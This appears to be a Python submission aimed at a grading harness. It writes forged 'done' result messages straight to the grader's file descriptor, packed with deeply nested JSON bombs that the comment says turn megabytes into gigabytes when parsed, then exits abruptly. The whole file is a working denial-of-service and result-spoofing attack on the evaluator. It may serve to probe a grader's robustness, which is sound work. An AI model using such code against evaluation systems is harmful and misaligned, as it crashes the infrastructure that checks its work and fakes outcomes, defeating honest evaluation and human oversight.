# a few megabytes that would become gigabytes, in each of the answers
import os
import struct

from graders.ground import wire


def second(x):
    text = b"[" + b"[{}]," * 800_000 + b"0]"
    bomb = b"HW1" + struct.pack("<I", len(text)) + text
    message = wire.encode({"done": ["second", "values"], "outcomes": [{"value": bomb}] * 4})
    os.write(100, struct.pack("<I", len(message)) + message)
    text = b'{"l":[' + b"[{}]," * 13_000_000 + b"0]}"
    message = b"HW1" + struct.pack("<I", len(text)) + text
    os.write(100, struct.pack("<I", len(message)) + message)
    os._exit(0)
